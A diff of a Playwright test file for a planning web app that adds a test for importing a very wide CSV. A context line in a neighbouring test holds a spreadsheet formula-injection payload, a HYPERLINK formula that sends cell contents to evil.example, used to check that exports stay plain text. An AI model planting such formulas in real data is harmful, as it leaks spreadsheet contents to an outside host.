@@ -277,6 +277,21 @@ test("a plan of nothing but markup is text in every view and in every export of 
   await expect(page.getByLabel("Service name")).toHaveValue(image);
 });
 
+test("a table of a thousand columns is drawn as far as it can be looked at, and read as a whole", async ({ page }) => {
+  await open(page, { plan: planOf([]) });
+  const row = (start: string, end: string) => [...Array.from({ length: 998 }, (_, column) => `c${column}`), start, end].join(",");
+  const rows = Array.from({ length: 150 }, (_, index) => row(`2026-03-0${1 + (index % 9)} 10:${10 + (index % 50)}`, "1m"));
+  await drop(page, "wide.csv", [row("start", "end"), ...rows].join("\n"));
+  const dialog = page.getByTestId("import");
+  await expect(dialog).toContainText("150 rows");
+  await expect(dialog).toContainText("and 960 more columns");
+  expect(await dialog.locator("tbody td").count()).toBeLessThan(4_000);
+  // What holds something is drawn, wherever it stands.
+  await expect(dialog.getByLabel("Column start is")).toBeVisible();
+  await dialog.getByRole("button", { name: /^Import \d+ rows$/ }).click();
+  await expect(page.getByTestId("toast")).toContainText("imported");
+});
+
 test("rows copied for a spreadsheet are texts there, and come back as they were", async ({ page }) => {
   const formula = "=HYPERLINK(\"https://evil.example/\"&A1,\"x\")";
   await open(page, { plan: planOf([{ ...nineMinutes, title: formula }]) });
